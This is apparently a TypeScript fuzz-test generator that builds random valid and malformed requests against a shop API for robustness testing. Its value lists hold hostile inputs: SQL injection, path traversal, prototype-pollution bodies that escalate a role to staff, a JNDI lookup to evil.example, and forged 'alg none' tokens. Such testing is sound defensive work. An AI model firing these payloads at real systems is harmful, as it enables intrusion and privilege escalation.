/** Requests drawn by chance from the interface's description: right ones, and right ones with something wrong in them. */

import { type DescribedEndpoint, fieldsIn, type Schema } from './described-endpoints.ts';
import { confusedValues, HOSTILE_TEXTS, jsonWith } from './hostile-values.ts';
import type { SeededRandom } from './seeded-random.ts';

export interface RandomRequest {
  readonly call: DescribedEndpoint;
  readonly method: string;
  readonly url: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: string | undefined;
  /** Whose token it carries. */
  readonly caller: Caller;
}

export type Caller = 'nobody' | 'one' | 'two' | 'staff';

/** What requests are drawn from besides the description. */
export interface Words {
  readonly tokens: Readonly<Record<Exclude<Caller, 'nobody'>, string>>;
  /** Ids, emails and numbers that mean something to the shop. */
  readonly names: readonly string[];
  /** Bodies that are right, by `METHOD /path`. */
  readonly bodies: ReadonlyMap<string, unknown>;
}

const ODD_NAMES = [
  '',
  '%',
  '%00',
  '%ff',
  '%0a',
  '..%2f..',
  '__proto__',
  'constructor',
  "' or 1=1--",
  'ord_',
  `ord_${'0'.repeat(25)}`,
  'NL-261120-ZZZZZZ',
  '%E2%80%A8',
  '%F0%9F%A7%B5',
  'x'.repeat(299),
  '*',
  '.',
  '%2e',
  '-1',
  '1e9',
  'null',
  'undefined',
  'NaN',
  '{}',
  '%7B%22a%22:1%7D',
];

const ODD_JSON = [
  '',
  '{',
  '[]',
  'null',
  '"x"',
  '1e400',
  '{"a":1,"a":2}',
  '\ufeff{}',
  '{"__proto__":{"role":"staff"}}',
  '[[[[[[]]]]]]',
  'a=b&c=d',
  '\u0000',
  '{"a":"\\ud800"}',
];

const ODD_HEADERS: readonly (readonly [string, string])[] = [
  ['content-type', 'text/plain'],
  ['content-type', 'application/json; charset=utf-16'],
  ['content-type', 'multipart/form-data; boundary=x'],
  ['content-encoding', 'gzip'],
  ['accept', 'text/html'],
  ['accept-encoding', 'br;q=0, gzip;q=x, *'],
  ['if-none-match', '*'],
  ['range', 'bytes=0-0,-1'],
  ['x-forwarded-for', '::1, x'],
  ['x-forwarded-host', 'evil.example'],
  ['x-http-method-override', 'DELETE'],
  ['x-request-id', '${jndi:ldap://evil.example}'],
  ['cookie', 'a=b; __proto__=c'],
  ['idempotency-key', 'x'.repeat(256)],
  ['idempotency-key', 'k\u00e9y'],
  ['origin', 'null'],
  ['authorization', 'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ1c3JfMSJ9.'],
  ['authorization', 'Basic YTpi'],
];

const OTHER_METHODS = ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'TRACE'];

/** Hashing a password costs as much as a hundred other requests, and who has logged out is refused: drawn less often. */
const RARE = /auth\/(?:register|login|logout)|password/;
const RARE_ONCE_IN = 12;

export function drawRequest(
  chance: SeededRandom,
  calls: readonly DescribedEndpoint[],
  words: Words,
): RandomRequest {
  const call = drawCall(chance, calls);
  const body = drawBody(chance, call, words);
  const caller = drawCaller(chance, call);
  return {
    call,
    method: chance.once(25) ? chance.pick(OTHER_METHODS) : call.method,
    url: drawUrl(chance, call, words),
    headers: {
      ...(body === undefined ? {} : { 'content-type': 'application/json' }),
      ...(caller === 'nobody' ? {} : { authorization: `Bearer ${words.tokens[caller]}` }),
      ...(chance.once(3) ? { 'idempotency-key': `key-${chance.below(50)}` } : {}),
      ...(chance.once(6) ? Object.fromEntries([chance.pick(ODD_HEADERS)]) : {}),
    },
    body,
    caller,
  };
}

function drawCall(chance: SeededRandom, calls: readonly DescribedEndpoint[]): DescribedEndpoint {
  const call = chance.pick(calls);
  return RARE.test(call.path) && !chance.once(RARE_ONCE_IN) ? drawCall(chance, calls) : call;
}

/** The token of staff is kept from calls by which it would be lost. */
function drawCaller(chance: SeededRandom, { path }: DescribedEndpoint): Caller {
  const caller = chance.pick(['nobody', 'one', 'one', 'one', 'two', 'two', 'staff'] as const);
  return caller === 'staff' && /auth|password/.test(path) ? 'nobody' : caller;
}

function drawUrl(chance: SeededRandom, { path, query }: DescribedEndpoint, { names }: Words): string {
  const drawName = () => (chance.once(3) ? chance.pick(ODD_NAMES) : encodeURIComponent(chance.pick(names)));
  const filled = path.replace(/\{\w+\}/g, drawName);
  const asked = chance.once(8) ? [...query, '__proto__', 'x'] : query;
  const params = asked
    .filter(() => chance.once(3))
    .map(name => `${name}=${chance.once(3) ? chance.below(60) : drawName()}`);
  return params.length === 0 ? filled : `${filled}?${params.join('&')}`;
}

function drawBody(
  chance: SeededRandom,
  { method, path, body: schema }: DescribedEndpoint,
  words: Words,
): string | undefined {
  if (schema === undefined) return chance.once(10) ? chance.pick(ODD_JSON) : undefined;
  if (chance.once(15)) return chance.pick(ODD_JSON);
  const right = words.bodies.get(`${method} ${path}`) ?? madeFrom(chance, schema, words);
  let text = JSON.stringify(right);
  for (let faults = chance.below(3); faults > 0; faults -= 1) text = spoilt(chance, text, schema, words);
  return chance.once(40) ? text.slice(0, chance.below(text.length)) : text;
}

/** The body with one field of it changed: for another value of its kind, or for one of no kind at all. */
function spoilt(chance: SeededRandom, text: string, schema: Schema, words: Words): string {
  const { path, schema: field } = chance.pick(fieldsIn(schema));
  const value = chance.once(2)
    ? JSON.stringify(madeFrom(chance, field, words))
    : chance.pick([...confusedValues(field), ...HOSTILE_TEXTS, 'undefined']);
  try {
    // What cannot be written in JSON at all, such as `undefined`, takes the field out.
    return jsonWith(JSON.parse(text), path, value)
      .replace(/"[^"]*":undefined,?/, '')
      .replace(',}', '}');
  } catch {
    return text;
  }
}

/** A value of the kind that a schema asks for. */
function madeFrom(chance: SeededRandom, schema: Schema, words: Words): unknown {
  if (schema.enum !== undefined) return chance.pick(schema.enum);
  if (schema.type === 'object') {
    const fields = Object.entries(schema.properties ?? {}).filter(() => !chance.once(10));
    return Object.fromEntries(fields.map(([name, field]) => [name, madeFrom(chance, field, words)]));
  }
  if (schema.type === 'array') {
    const { items = {} } = schema;
    return Array.from({ length: chance.below(4) }, () => madeFrom(chance, items, words));
  }
  if (schema.type === 'boolean') return chance.once(2);
  if (schema.type === 'number' || schema.type === 'integer')
    return chance.pick([0, 1, 2, 99, 100, -1, 1.005, 799, 942.82, 2 ** 53, -0]);
  return chance.pick([...words.names, 'Meena', '9840012345', '600026', '', ' ', 'தறி', '=1+1', '<b>']);
}
